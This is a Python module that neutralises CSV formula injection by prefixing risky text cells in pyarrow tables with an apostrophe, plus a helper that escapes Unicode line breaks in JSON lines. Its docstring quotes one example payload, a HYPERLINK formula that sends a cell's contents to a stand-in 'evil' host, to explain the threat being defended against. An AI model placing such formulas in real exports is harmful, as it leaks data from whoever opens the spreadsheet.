"""CSV files that cannot attack the person who opens them in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("https://evil/?"&A1, "click")`` in a model's output or an
annotator's rationale would leak or mislead a lead who opens the export. Every text cell
that starts so gets a leading apostrophe (OWASP's CSV-injection advice), which the
spreadsheet shows as text; numbers, booleans and missing values are untouched. JSONL and
Parquet carry the exact text.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = r"^[=+\-@\t\r]"


_LINE_BREAKS = {"\u2028": "\\u2028", "\u2029": "\\u2029", "\u0085": "\\u0085"}


def escape_line_breaks(line: str) -> str:
    """A JSON line with U+2028, U+2029 and U+0085 escaped: still the same JSON, but no
    ``str.splitlines()`` reader cuts the row there."""
    if "\u2028" in line or "\u2029" in line or "\u0085" in line:
        for raw, escaped in _LINE_BREAKS.items():
            line = line.replace(raw, escaped)
    return line


def defuse(table: Any) -> Any:
    """A copy of the pyarrow ``table`` whose text cells cannot start a formula."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for col in table.columns:
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            risky = pc.fill_null(pc.match_substring_regex(col, FORMULA_START), False)
            col = pc.if_else(risky, pc.binary_join_element_wise("'", col, ""), col)
        columns.append(col)
    return pa.table(columns, names=table.column_names)
